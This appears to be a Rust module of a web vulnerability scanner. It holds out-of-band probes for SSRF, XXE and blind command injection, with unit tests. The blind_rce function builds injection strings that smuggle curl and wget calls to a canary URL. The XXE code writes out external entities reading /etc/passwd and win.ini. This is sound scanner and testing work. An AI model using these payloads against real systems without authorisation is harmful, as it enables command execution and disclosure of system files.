//! Out-of-band tests: SSRF, XXE and blind command injection, each proven by a request to
//! Tapedeck's canary, `<canary base>/canary/<token>`, with a fresh token per test request.
//!
//! The target cannot fake a canary hit: the token is new and is only in the payload. After each
//! such request the probe asks the driver to wait for its token ([`Step::AwaitCanary`]); most
//! applications fetch during the request, so a short grace after the answer is enough.
//! XXE also has an in-band form: an external entity naming `/etc/passwd` whose content shows
//! in the answer.

use super::ptrav::new_file;
use super::{token, Attempts, Evidence, Judge, Payload, Probe, Seen, Step};
use crate::insertion::{Location, Point};
use crate::profile::Profile;
use crate::AttackType;

/// The canary URL for a token.
pub fn canary_url(base: &str, token: &str) -> String {
    format!("{}/canary/{token}", base.trim_end_matches('/'))
}

/// Makes a payload around a canary URL.
type MakePayload = Box<dyn Fn(&str) -> Payload>;

/// What a canary hit proves: `payload`, the only value that carried `token`, made the target
/// request the canary. Also for a hit that comes after the probe moved on, so the driver can
/// report a late one.
pub fn canary_evidence(attack: AttackType, token: &str, payload: &Payload) -> Evidence {
    let (threat, title) = match attack {
        AttackType::Rce => (95, "OS command injection (blind, out-of-band)"),
        AttackType::Xxe => (80, "XML external entity (out-of-band)"),
        _ => (70, "Server-side request forgery"),
    };
    Evidence {
        attack,
        threat,
        title: title.to_owned(),
        description: format!(
            "The target requested Tapedeck's canary with the token {token}, which only the value {:?} carried.",
            payload.text()
        ),
        payload: payload.text(),
    }
}

/// A probe that sends payloads carrying a canary URL, one at a time, and waits for each.
pub struct CanaryProbe {
    attack: AttackType,
    /// Payloads and the token each carries.
    items: Vec<(Payload, String)>,
    at: usize,
    awaiting: bool,
}

impl CanaryProbe {
    /// A probe over payloads made by `make(canary URL)`, each with a fresh token.
    fn new(attack: AttackType, base: &str, makers: Vec<MakePayload>) -> Self {
        let items = makers
            .into_iter()
            .map(|make| {
                let tok = token();
                (make(&canary_url(base, &tok)), tok)
            })
            .collect();
        Self {
            attack,
            items,
            at: 0,
            awaiting: false,
        }
    }
}

impl Probe for CanaryProbe {
    fn attack(&self) -> AttackType {
        self.attack
    }

    fn next(&mut self, _profile: &Profile, seen: Seen<'_>) -> Step {
        match seen {
            Seen::Answer(_) if !self.awaiting => {
                self.awaiting = true;
                return Step::AwaitCanary(self.items[self.at].1.clone());
            }
            Seen::Canary(hit) => {
                self.awaiting = false;
                if hit {
                    let (payload, tok) = &self.items[self.at];
                    return Step::Found(canary_evidence(self.attack, tok, payload));
                }
                self.at += 1;
            }
            _ => {}
        }
        match self.items.get(self.at) {
            Some((payload, _)) => Step::Send(payload.clone()),
            None => Step::Done,
        }
    }
}

/// SSRF: the value becomes the canary URL.
pub fn ssrf(base: &str) -> CanaryProbe {
    CanaryProbe::new(
        AttackType::Ssrf,
        base,
        vec![Box::new(|url| Payload::Value(url.to_owned()))],
    )
}

/// Blind command injection: the shell fetches the canary.
pub fn blind_rce(base: &str, original: &str) -> CanaryProbe {
    let o = original.to_owned();
    let shapes: [fn(&str, &str) -> String; 5] = [
        |o, u| format!("{o};curl -s {u} || wget -q -O- {u}"),
        |o, u| format!("{o}|curl -s {u}"),
        |o, u| format!("{o}$(curl -s {u})"),
        |o, u| format!("{o}`wget -q -O- {u}`"),
        |o, u| format!("{o}';curl -s {u};'"),
    ];
    let makers = shapes
        .into_iter()
        .map(|shape| {
            let o = o.clone();
            Box::new(move |u: &str| Payload::Value(shape(&o, u))) as MakePayload
        })
        .collect();
    CanaryProbe::new(AttackType::Rce, base, makers)
}

fn doctype(point: &Point, system: &str) -> Payload {
    // A non-validating parser does not check the DOCTYPE's name; the root's is used anyway.
    let root = point
        .name
        .trim_start_matches("XML_")
        .split(['.', '@'])
        .next()
        .unwrap_or("r");
    Payload::XmlMarkup {
        prolog: format!("<!DOCTYPE {root} [<!ENTITY tdxxe SYSTEM \"{system}\">]>"),
        markup: "&tdxxe;".into(),
    }
}

/// XXE at an XML text point: in-band through `file:///etc/passwd`, and out-of-band through the
/// canary when it is served. Other points get none.
pub fn xxe(point: &Point, base: Option<&str>) -> Vec<Box<dyn Probe>> {
    if !matches!(point.location, Location::XmlText(..)) {
        return Vec::new();
    }
    let in_band: Vec<(Payload, Judge)> = ["file:///etc/passwd", "file:///c:/windows/win.ini"]
        .into_iter()
        .map(|system| {
            let payload = doctype(point, system);
            let text = payload.text();
            let judge: Judge = Box::new(move |profile, answer| {
                new_file(profile, answer).map(|file| Evidence {
                    attack: AttackType::Xxe,
                    threat: 80,
                    title: format!("XML external entity reads {file}"),
                    description: format!(
                        "An external entity naming {file} ({text}) put the file's content in the answer."
                    ),
                    payload: text.clone(),
                })
            });
            (payload, judge)
        })
        .collect();
    let mut out: Vec<Box<dyn Probe>> = vec![Box::new(Attempts::new(AttackType::Xxe, in_band))];
    if let Some(base) = base {
        let p = point.clone();
        out.push(Box::new(CanaryProbe::new(
            AttackType::Xxe,
            base,
            vec![Box::new(move |url| doctype(&p, url))],
        )));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::tests::{run, value};
    use crate::insertion::points;
    use crate::profile::tests::answer;
    use crate::Request;
    use std::cell::RefCell;

    const BASE: &str = "http://tapedeck.test:7600/";

    fn profile() -> Profile {
        Profile::learn(&[answer(200, "fetched")]).unwrap()
    }

    #[test]
    fn ssrf_is_found_only_when_the_canary_is_hit_with_its_token() {
        let fetched = RefCell::new(Vec::<String>::new());
        let mut app = |p: &Payload| {
            fetched.borrow_mut().push(value(p).to_owned());
            answer(200, "fetched")
        };
        let hit = |tok: &str| fetched.borrow().iter().any(|u| u == &canary_url(BASE, tok));
        let e = run(&mut ssrf(BASE), &profile(), &mut app, hit).unwrap();
        assert!(e.payload.starts_with("http://tapedeck.test:7600/canary/td"));
        // A twin that refuses to fetch never hits the canary.
        assert!(run(
            &mut ssrf(BASE),
            &profile(),
            |_| answer(400, "host not allowed"),
            |_| false
        )
        .is_none());
    }

    #[test]
    fn blind_rce_waits_for_each_payloads_own_token() {
        let sent = RefCell::new(Vec::<String>::new());
        let mut app = |p: &Payload| {
            sent.borrow_mut().push(value(p).to_owned());
            answer(200, "fetched")
        };
        // The shell only runs `$(…)`: the third payload's token is the one hit.
        let hit = |tok: &str| {
            sent.borrow()
                .last()
                .is_some_and(|v| v.contains("$(curl") && v.contains(tok))
        };
        let e = run(&mut blind_rce(BASE, "x"), &profile(), &mut app, hit).unwrap();
        assert!(e
            .payload
            .starts_with("x$(curl -s http://tapedeck.test:7600/canary/td"));
        assert_eq!(sent.borrow().len(), 3);
    }

    fn xml_point() -> Point {
        let r = Request {
            method: "POST".into(),
            url: "http://app/x".into(),
            headers: vec![("Content-Type".into(), "application/xml".into())],
            body: b"<order><item>tea</item></order>".to_vec(),
        };
        points(&r)
            .into_iter()
            .find(|p| p.name == "XML_order.item")
            .unwrap()
    }

    #[test]
    fn xxe_in_band_shows_the_file_and_out_of_band_hits_the_canary() {
        let point = xml_point();
        let parser = |resolves: bool| {
            move |p: &Payload| match p {
                Payload::XmlMarkup { prolog, .. }
                    if resolves && prolog.contains("file:///etc/passwd") =>
                {
                    answer(200, "ordered root:x:0:0:root:/root:/bin/sh")
                }
                _ => answer(200, "ordered "),
            }
        };
        let mut probes = xxe(&point, Some(BASE));
        assert_eq!(probes.len(), 2);
        let e = run(probes[0].as_mut(), &profile(), parser(true), |_| false).unwrap();
        assert_eq!(e.title, "XML external entity reads /etc/passwd");
        assert!(e
            .payload
            .starts_with("<!DOCTYPE order [<!ENTITY tdxxe SYSTEM \"file:///etc/passwd\">]>"));
        assert!(run(
            xxe(&point, None)[0].as_mut(),
            &profile(),
            parser(false),
            |_| false
        )
        .is_none());
        assert!(run(probes[1].as_mut(), &profile(), parser(false), |_| true).is_some());
        let mut fresh = xxe(&point, Some(BASE));
        assert!(run(fresh[1].as_mut(), &profile(), parser(false), |_| false).is_none());
        assert!(xxe(
            &points(&Request {
                method: "GET".into(),
                url: "http://a/?q=1".into(),
                headers: vec![],
                body: vec![]
            })[1],
            Some(BASE)
        )
        .is_empty());
    }
}
